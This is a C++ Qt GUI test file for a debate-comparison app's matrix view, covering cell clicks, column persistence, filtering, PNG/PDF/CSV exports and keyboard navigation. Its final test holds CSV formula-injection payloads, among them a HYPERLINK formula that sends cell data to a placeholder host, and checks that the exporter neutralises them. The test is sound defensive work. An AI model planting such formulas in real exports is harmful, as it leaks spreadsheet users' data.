// SPDX-License-Identifier: MIT
// Copyright (c) 2026 The Standpoint authors
#include "app/compare/comparemodel.h"
#include "app/compare/compareview.h"
#include "app/compare/matrixexporter.h"
#include "app/reader/readerpane.h"
#include "app/reader/readerview.h"
#include "core/debate/agreement.h"
#include "core/text/csvreader.h"
#include "tests/gui/guifixture.h"

#include <QFile>
#include <QHeaderView>
#include <QImage>
#include <QListWidget>
#include <QSortFilterProxyModel>
#include <QTabWidget>
#include <QTableView>
#include <QTest>
#include <QTextBrowser>

using namespace standpoint;
using fixtures::waitUntil;

namespace {

// The proxy index of a question and voice in the Compare table.
QModelIndex cell(app::CompareView *view, const QString &question, const QString &voice)
{
    auto *proxy = static_cast<QSortFilterProxyModel *>(view->table()->model());
    return proxy->mapFromSource(view->model()->index(view->model()->rowOf(question), view->model()->columnOf(voice)));
}

} // namespace

class CompareGui : public fixtures::GuiTest
{
};

TEST_F(CompareGui, ClickingACellOpensTheReaderWithTheExactQuoteSelected)
{
    app::CompareView *compare = window->compareView();
    const QString question = QStringLiteral("q-junior"), voice = QStringLiteral("position:gabuev");
    const QModelIndex index = cell(compare, question, voice);
    ASSERT_TRUE(index.isValid());
    compare->table()->scrollTo(index);
    QTest::mouseClick(compare->table()->viewport(), Qt::LeftButton, {}, compare->table()->visualRect(index).center());
    app::ReaderPane *pane = window->readerView()->primary();
    const debate::Stance *stance = window->debate().stance(question, voice);
    ASSERT_TRUE(stance && !stance->quotes.isEmpty());
    ASSERT_TRUE(waitUntil([&] { return !pane->isLoading() && pane->selectedText() == stance->quotes.first().text; }))
        << "selected: " << pane->selectedText().toStdString();
    EXPECT_EQ(window->tabs()->currentWidget(), window->readerView());
    EXPECT_EQ(pane->documentKey(), stance->quotes.first().documentKey);
}

TEST_F(CompareGui, ColumnChoiceAndOrderPersistAcrossARestart)
{
    const QStringList chosen = {QStringLiteral("speaker:berman"), QStringLiteral("position:gabuev"),
                                QStringLiteral("position:heritage")};
    window->compareView()->setVisibleVoices(chosen);
    EXPECT_EQ(window->compareView()->visibleVoices(), chosen);
    // Dragging a header moves a column too.
    QHeaderView *header = window->compareView()->table()->horizontalHeader();
    header->moveSection(2, 0);
    const QStringList dragged = {QStringLiteral("position:heritage"), QStringLiteral("speaker:berman"),
                                 QStringLiteral("position:gabuev")};
    EXPECT_EQ(window->compareView()->visibleVoices(), dragged);
    window->close();
    window.reset();
    auto again = open();
    EXPECT_EQ(again->compareView()->visibleVoices(), dragged);
    EXPECT_EQ(again->compareView()->agreementTable()->model()->rowCount(), 3);
}

TEST_F(CompareGui, FewerThanTwoColumnsIsRefused)
{
    const QStringList before = window->compareView()->visibleVoices();
    window->compareView()->setVisibleVoices({QStringLiteral("position:gabuev")});
    EXPECT_EQ(window->compareView()->visibleVoices(), before);
}

TEST_F(CompareGui, ThemeFilterHidesTheRightRows)
{
    const QString theme = QStringLiteral("cold-war-analogies");
    window->compareView()->setThemeFilter(theme);
    QAbstractItemModel *shown = window->compareView()->table()->model();
    int expected = 0;
    for (const debate::Question &q : window->debate().questions)
        expected += q.themes.contains(theme) ? 1 : 0;
    ASSERT_GT(expected, 0);
    ASSERT_LT(expected, window->debate().questions.size());
    ASSERT_EQ(shown->rowCount(), expected);
    for (int r = 0; r < shown->rowCount(); ++r) {
        const QString key = shown->index(r, 0).data(app::CompareModel::QuestionKeyRole).toString();
        for (const debate::Question &q : window->debate().questions) {
            if (q.key == key) {
                EXPECT_TRUE(q.themes.contains(theme)) << key.toStdString();
            }
        }
    }
    window->compareView()->setThemeFilter(QString());
    EXPECT_EQ(shown->rowCount(), window->debate().questions.size());
}

TEST_F(CompareGui, ExportsProduceFilesOfTheRightShape)
{
    QTemporaryDir dir;
    // STANDPOINT_KEEP_EXPORTS=DIR keeps the files, to look at them.
    const QString folder = qEnvironmentVariableIsSet("STANDPOINT_KEEP_EXPORTS")
                               ? qEnvironmentVariable("STANDPOINT_KEEP_EXPORTS")
                               : dir.path();
    window->compareView()->setThemeFilter(QStringLiteral("us-options"));
    const app::MatrixSelection selection = window->compareView()->selection();
    const QString png = folder + QStringLiteral("/matrix.png"), pdf = folder + QStringLiteral("/matrix.pdf"),
                  csv = folder + QStringLiteral("/matrix.csv");
    ASSERT_TRUE(app::MatrixExporter::exportPng(selection, png).ok());
    const QImage image(png);
    EXPECT_EQ(image.size(), QSize(1920, 1080));
    // Not blank: the title's ink and the chips' colours are there.
    int dark = 0;
    for (int y = 0; y < image.height(); y += 4)
        for (int x = 0; x < image.width(); x += 4)
            dark += qGray(image.pixel(x, y)) < 100 ? 1 : 0;
    EXPECT_GT(dark, 500);
    const QString large = folder + QStringLiteral("/matrix-4k.png");
    ASSERT_TRUE(app::MatrixExporter::exportPng(selection, large, QSize(3840, 2160)).ok());
    EXPECT_EQ(QImage(large).size(), QSize(3840, 2160));
    EXPECT_FALSE(app::MatrixExporter::exportPng(selection, png, QSize(10, 10)).ok());

    ASSERT_TRUE(app::MatrixExporter::exportPdf(selection, pdf).ok());
    QFile pdfFile(pdf);
    ASSERT_TRUE(pdfFile.open(QIODevice::ReadOnly));
    EXPECT_TRUE(pdfFile.read(5) == "%PDF-");

    ASSERT_TRUE(app::MatrixExporter::exportCsv(selection, csv).ok());
    QFile csvFile(csv);
    ASSERT_TRUE(csvFile.open(QIODevice::ReadOnly));
    auto table = text::parseCsv(QString::fromUtf8(csvFile.readAll()), csv);
    ASSERT_TRUE(table.ok()) << table.message().toStdString();
    EXPECT_EQ(table->header.first(), QStringLiteral("question_id"));
    EXPECT_EQ(table->rows.size(), selection.questions.size() * selection.voices.size());
    const int stance = table->column(QStringLiteral("stance")), quotes = table->column(QStringLiteral("quotes"));
    for (const auto &row : table->rows) {
        EXPECT_FALSE(row.fields[stance].isEmpty());
        if (row.fields[stance] != QLatin1String("not_addressed")) {
            EXPECT_FALSE(row.fields[quotes].isEmpty());
        }
    }
}

TEST_F(CompareGui, ExportToAnUnwritablePlaceSaysSo)
{
    const auto status = app::MatrixExporter::exportCsv(window->compareView()->selection(),
                                                       QStringLiteral("/nonexistent-folder/m.csv"));
    ASSERT_FALSE(status.ok());
    EXPECT_TRUE(status.message().contains(QStringLiteral("/nonexistent-folder/m.csv")));
}

TEST_F(CompareGui, KeyboardReachesEveryCellOpensItsQuoteAndComesBack)
{
    QTableView *table = window->compareView()->table();
    window->showCompare();
    table->setFocus();
    table->setCurrentIndex(table->model()->index(0, 0));
    const int rows = table->model()->rowCount(), columns = table->model()->columnCount();
    int visited = 0;
    for (int r = 0; r < rows; ++r) {
        for (int c = 0; c < columns; ++c) {
            EXPECT_EQ(table->currentIndex().row(), r);
            EXPECT_EQ(table->currentIndex().column(), c);
            ++visited;
            if (c + 1 < columns)
                QTest::keyClick(table, Qt::Key_Right);
        }
        QTest::keyClick(table, Qt::Key_Home);
        QTest::keyClick(table, Qt::Key_Down);
    }
    EXPECT_EQ(visited, rows * columns);

    const QModelIndex target = cell(window->compareView(), QStringLiteral("q-wedge"), QStringLiteral("position:gabuev"));
    table->setCurrentIndex(target);
    QTest::keyClick(table, Qt::Key_Return);
    app::ReaderPane *pane = window->readerView()->primary();
    const debate::Stance *stance = window->debate().stance(QStringLiteral("q-wedge"), QStringLiteral("position:gabuev"));
    ASSERT_TRUE(waitUntil([&] { return pane->selectedText() == stance->quotes.first().text; }));
    EXPECT_EQ(window->tabs()->currentWidget(), window->readerView());
    QTest::keyClick(QApplication::focusWidget(), Qt::Key_Left, Qt::AltModifier);
    ASSERT_TRUE(waitUntil([&] { return window->tabs()->currentWidget() == window->compareView(); }));
    EXPECT_EQ(table->currentIndex(), target);
    EXPECT_TRUE(table->hasFocus());
}

TEST_F(CompareGui, HeatMapPairListsTheQuestionsWhereTheyDiffer)
{
    QTableView *heat = window->compareView()->agreementTable();
    heat->setCurrentIndex(heat->model()->index(0, 1));
    const auto pair = debate::compareVoices(window->debate(), window->compareView()->visibleVoices()[0],
                                            window->compareView()->visibleVoices()[1]);
    EXPECT_EQ(window->compareView()->differences()->count(), pair.differing.size());
    ASSERT_GT(pair.differing.size(), 0);
    QListWidgetItem *first = window->compareView()->differences()->item(0);
    emit window->compareView()->differences()->itemActivated(first);
    EXPECT_EQ(window->compareView()->table()->currentIndex().data(app::CompareModel::QuestionKeyRole).toString(),
              pair.differing.first());
}

TEST_F(CompareGui, CompactModeFitsEveryColumnAndIsRemembered)
{
    QTableView *table = window->compareView()->table();
    window->compareView()->setCompact(true);
    window->compareView()->setAgreementVisible(false); // the matrix takes the whole width
    QApplication::processEvents();
    EXPECT_LE(table->horizontalHeader()->length(), table->viewport()->width())
        << "columns " << table->horizontalHeader()->length() << " viewport " << table->viewport()->width();
    window->close();
    window.reset();
    auto again = open();
    EXPECT_TRUE(again->compareView()->isCompact());
    again->compareView()->setCompact(false);
    EXPECT_GT(again->compareView()->table()->horizontalHeader()->length(),
              again->compareView()->table()->viewport()->width());
}

// Issue 18's acceptance, for the matrix: a debate's text that begins with =, +, - or @ is exported as
// text, never as a formula a spreadsheet would run.
TEST(MatrixCsv, IsNeutralised)
{
    const QStringList dangerous = {QStringLiteral("=HYPERLINK(\"http://x\"&A1,\"click\")"), QStringLiteral("+1+1"),
                                   QStringLiteral("-2+3"), QStringLiteral("@SUM(A1:A9)")};
    debate::DebateSnapshot debate;
    debate.key = QStringLiteral("shared");
    debate.title = dangerous[0];
    debate::Question question;
    question.key = QStringLiteral("q");
    question.text = dangerous[0];
    debate.questions << question;
    debate::Voice voice;
    voice.key = QStringLiteral("position:p");
    voice.label = dangerous[1];
    debate.voices << voice;
    debate::QuoteView quote;
    quote.documentKey = dangerous[1];
    quote.text = dangerous[3];
    debate::Stance stance;
    stance.value = debate::StanceValue::Yes;
    stance.paraphrase = dangerous[2];
    stance.quotes = {quote};
    debate.stances.insert(debate::DebateSnapshot::stanceKey(QStringLiteral("q"), QStringLiteral("position:p")), stance);
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("m.csv"));
    app::MatrixSelection selection;
    selection.debate = &debate;
    selection.questions = {QStringLiteral("q")};
    selection.voices = {QStringLiteral("position:p")};
    ASSERT_TRUE(app::MatrixExporter::exportCsv(selection, path).ok());
    QFile file(path);
    ASSERT_TRUE(file.open(QIODevice::ReadOnly));
    auto table = text::parseCsv(QString::fromUtf8(file.readAll()), path);
    ASSERT_TRUE(table.ok()) << table.message().toStdString();
    ASSERT_EQ(table->rows.size(), 1);
    const QStringList &row = table->rows.first().fields;
    for (const QString &field : row)
        EXPECT_FALSE(!field.isEmpty() && QStringLiteral("=+-@\t\r").contains(field.front())) << field.toStdString();
    EXPECT_EQ(row[table->column(QStringLiteral("question"))], QLatin1Char('\'') + dangerous[0]);
    EXPECT_EQ(row[table->column(QStringLiteral("voice"))], QLatin1Char('\'') + dangerous[1]);
    EXPECT_EQ(row[table->column(QStringLiteral("paraphrase"))], QLatin1Char('\'') + dangerous[2]);
    EXPECT_EQ(row[table->column(QStringLiteral("quotes"))], QLatin1Char('\'') + dangerous[3]);
    EXPECT_EQ(row[table->column(QStringLiteral("documents"))], QLatin1Char('\'') + dangerous[1]);
}
